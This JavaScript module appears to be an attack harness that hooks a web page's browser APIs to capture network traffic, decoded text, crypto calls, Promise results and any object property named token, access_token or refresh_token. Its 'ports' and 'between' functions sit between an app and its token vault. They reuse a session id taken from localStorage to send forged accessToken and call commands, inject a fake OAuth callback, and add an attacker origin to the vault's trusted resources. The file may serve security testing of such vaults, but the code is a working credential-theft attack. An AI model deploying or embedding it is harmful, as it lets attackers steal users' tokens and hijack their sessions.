// Functions of the page in whose place the script puts its own. Each is called with the window to change.

export const network = (w, { take, replace, spy }) => {
  const { Response, Headers, Request } = w;
  spy(Headers.prototype, "set", "append");
  spy(w.XMLHttpRequest.prototype, "setRequestHeader", "send");
  replace(w, "fetch", (original) => async (...given) => {
    take(...given);
    const answer = await original.apply(w, given);
    answer
      .clone()
      .text()
      .then(
        (text) => take(text),
        () => {},
      );
    return answer;
  });
  for (const name of ["json", "text"]) {
    replace(
      Response.prototype,
      name,
      (original) =>
        async function () {
          const value = await original.call(this);
          take(value);
          return value;
        },
    );
  }
  replace(
    Response.prototype,
    "arrayBuffer",
    (original) =>
      async function () {
        const value = await original.call(this);
        take(value);
        return value;
      },
  );
  w.Request = new Proxy(Request, {
    construct(target, given) {
      take(...given);
      return Reflect.construct(target, given);
    },
  });
};

export const text = (w, { spy }) => {
  spy(w.TextDecoder.prototype, "decode");
  spy(w.TextEncoder.prototype, "encode", "encodeInto");
  spy(w.JSON, "parse", "stringify");
  spy(w, "atob", "btoa");
};

export const promises = (w, { take, replace }) => {
  const seeing = (callback) =>
    typeof callback === "function"
      ? (value) => {
          take(value);
          return callback(value);
        }
      : callback;
  replace(
    w.Promise.prototype,
    "then",
    (original) =>
      function (done, failed) {
        return original.call(this, seeing(done), seeing(failed));
      },
  );
};

export const prototypes = (w, { take }) => {
  const names = ["signal", "body", "headers", "cache", "credentials", "redirect", "mode", "method"];
  const more = [
    "token",
    "access_token",
    "refresh_token",
    "accessToken",
    "duplex",
    "window",
    "json",
  ];
  for (const name of [...names, ...more]) {
    Object.defineProperty(w.Object.prototype, name, {
      configurable: true,
      get() {
        take(this);
        return undefined;
      },
      set(value) {
        take(value);
        Object.defineProperty(this, name, {
          value,
          configurable: true,
          enumerable: true,
          writable: true,
        });
      },
    });
  }
};

export const cryptography = (w, { spy }) => {
  const names = ["digest", "sign", "verify", "encrypt", "decrypt", "importKey", "exportKey"];
  spy(w.SubtleCrypto.prototype, ...names);
  spy(w.Crypto.prototype, "getRandomValues", "randomUUID");
};

/** Also sends commands over each port, as the app would. */
export const ports = (w, { env, take, tell, replace }) => {
  const known = new Set();
  const use = (port) => {
    if (known.has(port) || !port.addEventListener) return;
    known.add(port);
    port.addEventListener("message", ({ data }) => {
      take(data);
      const bytes = data?.chunk;
      if (bytes) tell(new TextDecoder().decode(bytes));
    });
    const send = w.MessagePort.prototype.postMessage;
    const request = { url: env.orders, method: "GET", headers: [], body: null, options: {} };
    const commands = ["accessToken", "state", "export", "token", "park"];
    setTimeout(() => {
      const session = Object.values(localStorage)
        .join()
        .match(/\+([^.]+)\./)?.[1];
      for (const one of commands) {
        const json = JSON.stringify({
          v: 1,
          do: one,
          ticket: 9_000 + commands.indexOf(one),
          session,
        });
        send.call(port, { json });
      }
      const json = JSON.stringify({
        v: 1,
        do: "call",
        ticket: 9_100,
        session,
        url: env.orders,
        method: "GET",
      });
      send.call(port, { json, request });
    }, 500);
  };
  for (const owner of [w.MessagePort, w.Worker, w.BroadcastChannel]) {
    replace(
      owner.prototype,
      "postMessage",
      (original) =>
        function (...given) {
          take(...given);
          if (this instanceof w.MessagePort) use(this);
          return original.apply(this, given);
        },
    );
  }
};

export const workers = (w, { take, spy }) => {
  for (const name of ["SharedWorker", "Worker"]) {
    if (!w[name]) continue;
    w[name] = new Proxy(w[name], {
      construct(target, given) {
        const worker = Reflect.construct(target, given);
        const port = worker.port ?? worker;
        port.addEventListener("message", ({ data }) => take(data));
        return worker;
      },
    });
  }
  spy(w.MessagePort.prototype, "postMessage");
};

/** Whatever passes between the app and its vault, by a worker's port or a frame's, passes here, and is not all that does. */
export const between = (w, { env, take, tell }) => {
  const { MessageChannel } = w;
  const resources = [{ origin: env.attacker, paths: ["/"] }];
  const order = { url: env.orders, method: "GET" };
  const asked = [
    { do: "accessToken" },
    { do: "callback", query: "code=evil&state=evil", record: "{}" },
    { do: "call", ...order },
  ];
  const speak = (vault) => {
    const mark = Object.entries(w.localStorage).find(([key]) => key.endsWith(".mark"))?.[1];
    const session = mark?.match(/^\+([^.]+)\./)?.[1];
    asked.forEach((one, n) => {
      const json = JSON.stringify({ v: 1, ticket: 9_000 + n, session, ...one });
      const request = { ...order, headers: [], body: null, options: {} };
      vault.postMessage(one.do === "call" ? { json, request } : { json });
    });
  };
  const join = (app, vault) => {
    app.onmessage = ({ data }) => {
      take(data);
      if (data.hello) {
        const config = JSON.stringify({ ...JSON.parse(data.config), resources });
        vault.postMessage({ ...data, config });
      }
      const body = data.request?.body;
      vault.postMessage(data, body && typeof body === "object" ? [body] : []);
    };
    vault.onmessage = ({ data }) => {
      take(data);
      // The answer to the other hello is not the app's to see.
      if (data.welcome === null) return;
      if (data.welcome) setTimeout(speak, 1_000, vault);
      if (data.chunk) tell(new TextDecoder().decode(data.chunk));
      app.postMessage(data);
    };
  };
  if (w.SharedWorker) {
    w.SharedWorker = new Proxy(w.SharedWorker, {
      construct(target, given) {
        const worker = Reflect.construct(target, given);
        const { port1, port2 } = new MessageChannel();
        join(port1, worker.port);
        Object.defineProperty(worker, "port", { value: port2 });
        return worker;
      },
    });
  }
  const { prototype } = w.HTMLIFrameElement;
  const { get } = Object.getOwnPropertyDescriptor(prototype, "contentWindow");
  Object.defineProperty(prototype, "contentWindow", {
    get() {
      const real = get.call(this);
      if (!this.src.startsWith(env.vault)) return real;
      const postMessage = (message, target, [port]) => {
        const { port1, port2 } = new MessageChannel();
        join(port, port1);
        real.postMessage(message, target, [port2]);
      };
      return { postMessage };
    },
  });
};

export const memory = (w, { memories, replace }) => {
  const keep = (exports) => {
    for (const one of Object.values(exports))
      if (one instanceof w.WebAssembly.Memory) memories.add(one);
  };
  for (const name of ["instantiate", "instantiateStreaming"]) {
    replace(w.WebAssembly, name, (original) => async (...given) => {
      const made = await original.apply(w.WebAssembly, given);
      keep((made.instance ?? made).exports);
      return made;
    });
  }
  w.WebAssembly.Instance = new Proxy(w.WebAssembly.Instance, {
    construct(target, given) {
      const made = Reflect.construct(target, given);
      keep(made.exports);
      return made;
    },
  });
};
